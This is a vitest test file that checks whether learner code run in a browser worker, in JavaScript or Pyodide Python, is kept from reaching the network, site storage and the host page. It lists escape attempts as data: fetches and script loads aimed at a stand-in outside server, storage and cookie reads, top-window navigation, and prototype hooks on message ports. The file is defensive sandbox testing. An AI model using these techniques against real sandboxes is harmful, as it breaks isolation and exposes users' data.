/** What a learner's program cannot reach: the network, what the site stores, the page around it. */
import { createServer, type Server as HttpServer } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { serveSite, visitSite } from "./harness.ts";

const site = serveSite();
const visit = visitSite(site);
/** Another site, and everybody who came by. */
let elsewhere: HttpServer;
let outside: string;
const visitors: string[] = [];
/** What the site gave out while programs ran. */
const given: string[] = [];

beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    visitors.push(`${request.method} ${request.url}`);
    response.setHeader("Access-Control-Allow-Origin", "*");
    response.setHeader("Content-Type", "text/javascript");
    response.end("globalThis.reached = true");
  });
  elsewhere.on("upgrade", (request, socket) => {
    visitors.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  elsewhere.on("connection", () => visitors.push("connection"));
  await new Promise<void>((ready) => elsewhere.listen(0, "127.0.0.1", ready));
  outside = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  // Something that there would be to read.
  await visit.page.evaluate(async () => {
    localStorage.setItem("private", "1");
    await new Promise((done, fail) => {
      const opening = indexedDB.open("private", 1);
      opening.onsuccess = done;
      opening.onerror = fail;
    });
    await (await caches.open("private")).put("/private", new Response("1"));
    (globalThis as any).heard = [];
    new BroadcastChannel("resplay").onmessage = ({ data }) =>
      (globalThis as any).heard.push(data);
  });
  await visit.run("python", "pass");
  await visit.run("javascript", "1");
  visit.page.on("response", (response) => {
    if (response.url().startsWith("http")) given.push(response.url());
  });
});

afterAll(async () => {
  elsewhere.close();
});

/** Ways out of a worker. Each is the body of an async function that gives what it reached. */
const ways: Record<string, string> = {
  fetch: `await fetch("http://OUTSIDE/"); return "sent"`,
  "fetch without asking": `await fetch("http://OUTSIDE/", { mode: "no-cors", method: "POST", body: "x" }); return "sent"`,
  "fetch of the site itself": `await fetch("SITE"); return "sent"`,
  "a file that the page has loaded": `await fetch("SITEgenerated/python.zip.gz"); return "read"`,
  "a script that the page has loaded": `await import("SITEgenerated/pyodide/pyodide.mjs"); return "imported"`,
  "a request that would change what the site serves": `await fetch("SITEcache/key?value=1", { mode: "no-cors", method: "POST" }); return "sent"`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open("GET", "http://OUTSIDE/", false); x.send(); return "sent"`,
  WebSocket: `const s = new WebSocket("ws://OUTSIDE/"); await new Promise((y, n) => { s.onopen = y; s.onerror = () => n(Error("closed")) }); return "open"`,
  EventSource: `const s = new EventSource("http://OUTSIDE/"); await new Promise((y, n) => { s.onopen = y; s.onerror = () => n(Error("closed")) }); return "open"`,
  WebTransport: `await new WebTransport("https://OUTSIDE/").ready; return "open"`,
  importScripts: `importScripts("http://OUTSIDE/x.js"); return globalThis.reached`,
  "import of a script": `await import("http://OUTSIDE/x.js"); return globalThis.reached`,
  "a worker of another site": `const w = new Worker("http://OUTSIDE/x.js"); await new Promise((y, n) => { w.onmessage = y; w.onerror = () => n(Error("refused")) }); return "made"`,
  "a worker of its own that fetches": `const code = 'fetch("http://OUTSIDE/", { mode: "no-cors" }).then(() => postMessage("sent"), (e) => postMessage(e.name))'
    const w = new Worker(URL.createObjectURL(new Blob([code]))); const { data } = await new Promise((y, n) => { w.onmessage = y; w.onerror = () => n(Error("refused")) }); if (data !== "sent") throw Error(data); return data`,
  indexedDB: `const o = indexedDB.open("private"); await new Promise((y, n) => { o.onsuccess = y; o.onerror = () => n(o.error) }); return "open"`,
  caches: `return String(await (await caches.open("private")).match("/private"))`,
  "the file system": `return String(await navigator.storage.getDirectory())`,
  "locks of the site": `await navigator.locks.request("resplay", () => {}); return "held"`,
  localStorage: `return localStorage.getItem("private")`,
  cookies: `return String(await cookieStore.getAll())`,
  "the page": `return String(parent.document ?? top.document)`,
  "top navigation": `top.location.href = "http://OUTSIDE/"; return "left"`,
  "its own navigation": `location.href = "http://OUTSIDE/"; location.assign("http://OUTSIDE/"); throw Error("still here")`,
  "opening a window": `return String(open("http://OUTSIDE/"))`,
  "the port to the page": `return String((await globalThis.resplayFirst).data.control)`,
  // The one below says what it saw as its run ends, the other as the next begins.
  "that port as it posts": `const { postMessage } = MessagePort.prototype; MessagePort.prototype.postMessage = function (...given) { if (given[0].kind === "ended") globalThis.came = "reached: " + this; return Reflect.apply(postMessage, this, given) }; throw Error("not yet")`,
  "that port as it hears": `const { get } = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data"); Object.defineProperty(MessageEvent.prototype, "data", { get() { const data = Reflect.apply(get, this, []); if (data.kind === "run") globalThis.came = "reached: " + this.target; return data } }); throw Error("not yet")`,
};

function program(way: string): string {
  return way.replaceAll("OUTSIDE", outside).replaceAll("SITE", site.url);
}

/** Sets out, and leaves in a global of the worker what comes of it. */
const setOut = (way: string) => `globalThis.came = ""
const way = async () => { ${program(way)} }
way().then((got) => (globalThis.came = "reached: " + got), () => (globalThis.came = "refused"))`;

const asPython = (code: string) =>
  `from pyodide.code import run_js\nprint(run_js(${JSON.stringify(code)}))`;

describe.each([
  ["javascript", (code: string) => code, "console.log(globalThis.came)"],
  [
    "python",
    (code: string) => asPython(`{ ${code} }`),
    asPython("globalThis.came"),
  ],
] as const)("from %s", (language, write, look) => {
  test.each(Object.entries(ways))("%s is out of reach", async (_, way) => {
    await visit.run(language, write(setOut(way)));
    await expect
      .poll(async () => (await visit.run(language, look)).output)
      .toBe("refused\n");
    expect(visitors).toEqual([]);
    expect(given.splice(0)).toEqual([]);
    expect(visit.page.url()).toBe(site.url);
  });

  test("a channel of the page's name is another channel", async () => {
    const send = `new BroadcastChannel("resplay").postMessage("hello")`;
    await visit.run(
      language,
      language === "python"
        ? `import js\njs.BroadcastChannel.new("resplay").postMessage("hello")`
        : send,
    );
    await visit.page.evaluate((send) => eval(send), send); // which is heard, so anything before it was too
    await expect
      .poll(() =>
        visit.page.evaluate(() => (globalThis as any).heard.splice(0)),
      )
      .toEqual(["hello"]);
  });
});

test("Python's own ways end in words", async () => {
  const { output } = await visit.run(
    "python",
    `
import socket, urllib.request, http.client
from pyodide.http import pyfetch, open_url
for name, way in {
    "pyfetch": lambda: pyfetch("http://${outside}/"),
    "open_url": lambda: open_url("http://${outside}/"),
    "urlopen": lambda: urllib.request.urlopen("http://${outside}/"),
}.items():
    try:
        got = way()
        if hasattr(got, "__await__"):
            got = await got
        print(name, "reached", got)
    except Exception as error:
        print(name, "refused")
`,
  );
  expect(output).toBe("pyfetch refused\nopen_url refused\nurlopen refused\n");
  expect(visitors).toEqual([]);
});
